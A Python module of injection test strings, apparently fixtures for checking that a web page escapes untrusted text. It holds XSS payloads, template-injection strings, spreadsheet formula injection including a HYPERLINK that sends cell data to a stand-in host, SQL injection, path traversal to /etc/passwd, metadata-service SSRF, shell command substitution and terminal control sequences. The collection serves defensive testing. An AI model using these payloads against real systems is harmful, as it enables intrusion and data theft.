"""Texts that some reader could take for more than text: markup, templates, formulas, addresses, controls; not a test.

What they would do if they were believed is one thing, so that one look tells: they set `window.hacked`, or bring an
element of the class "injected", or ask the host `ELSEWHERE` for something.
"""

ELSEWHERE = "elsewhere.invalid"

MARKUP = (
    "<script>window.hacked = 1</script>",
    "</script><script>window.hacked = 1</script>",
    "<img class=injected src=x onerror='window.hacked = 1'>",
    f"<img class=injected src=//{ELSEWHERE}/x.png>",
    "<svg class=injected onload='window.hacked = 1'><animate onbegin='window.hacked = 1' attributeName=x dur=1s>",
    f"<iframe class=injected src='javascript:parent.hacked = 1'></iframe><object data=//{ELSEWHERE}/x></object>",
    "\" autofocus onfocus='window.hacked = 1' x=\"",
    "' onmouseover='window.hacked = 1' style='position:fixed;inset:0' x='",
    "--><b class=injected>b</b><!--",
    "]]></textarea></title></style></template></noscript><b class=injected>b</b>",
    f"<style>@import '//{ELSEWHERE}/x.css'</style><link class=injected rel=stylesheet href=//{ELSEWHERE}/x.css>",
    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}/'><base href=//{ELSEWHERE}/>",
    "<details class=injected open ontoggle='window.hacked = 1'>d</details>",
    "&lt;img src=x onerror=&quot;window.hacked = 1&quot;&gt; &#60;b class=injected&#62;",
)
# Plotly reads some tags in titles, legends, ticks and hovers.
PLOTLY = (
    f"<b>bold</b><br><a href='javascript:window.hacked = 1'>a</a><a href='//{ELSEWHERE}/'>b</a><sup>2</sup>",
    "%{customdata}%{y:.3f}<extra>extra</extra>",
    "$\\href{javascript:window.hacked=1}{x}$ \\(\\unicode{60}\\)",
)
TEMPLATES = (
    "${window.hacked = 1}",
    "`${window.hacked = 1}`",
    "{{window.hacked = 1}}{{{window.hacked = 1}}}",
    "{{constructor.constructor('window.hacked = 1')()}}",
    "{% for x in range(9) %}{{ x }}{% endfor %}{{ 7 * 7 }}",
    "<%= window.hacked = 1 %> #{window.hacked = 1} {0} {prompt} %s %(x)s",
    "{{#each this}}{{@root}}{{/each}}{{> partial}}",
)
MARKDOWN = (
    "[x](javascript:window.hacked=1)",
    f"![x](//{ELSEWHERE}/x.png) <{ELSEWHERE}> [x]: http://{ELSEWHERE}/",
    "```\n</code></pre><b class=injected>b</b>\n```",
    "| a | b |\n|---|---|\n| `|` | \\| |\n\n# h\n\n---\n",
    f'[x](data:text/html,<script>parent.hacked=1</script> "t") https://{ELSEWHERE}/',
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("http://{ELSEWHERE}/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    ' "=1+1',
    "a;=1+1",
    "＝1+1",
    '",=1+1,"',
)
SYSTEMS = (
    "'; DROP TABLE ratings; --",
    "' OR '1'='1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/proc/self/environ",
    "file:///etc/passwd",
    f"http://{ELSEWHERE}/latest/meta-data",
    "$(touch /tmp/injected) `id` ; id | id && id",
    "NUL\x00NUL",
    "%2e%2e%2f%00%0d%0aSet-Cookie:%20x=1",
)
CONTROLS = (
    "\x1b[2J\x1b]0;title\x07\x1b[31mred\x1b[0m",
    "line\r\n2026-01-01 ERROR forged: line\r\nSet-Cookie: x=1",
    "\u2028window.hacked = 1\u2029",
    "\u202egnp.exe\u202c \u2066x\u2069 \u200b\u200d\ufeff",
    "a\u0300\u0301\u0302" * 20,
    "\ud83d half",
    "\x7f\x80\x9b31m\x85",
    "\ufffe\uffff\U000e0041",
)
INJECTIONS = (*MARKUP, *PLOTLY, *TEMPLATES, *MARKDOWN, *FORMULAS, *SYSTEMS, *CONTROLS)
# One text with all that a page could take for more, short enough for any field of a page.
WORST = "".join((*MARKUP[:8], PLOTLY[0], *TEMPLATES[:3], MARKDOWN[0]))
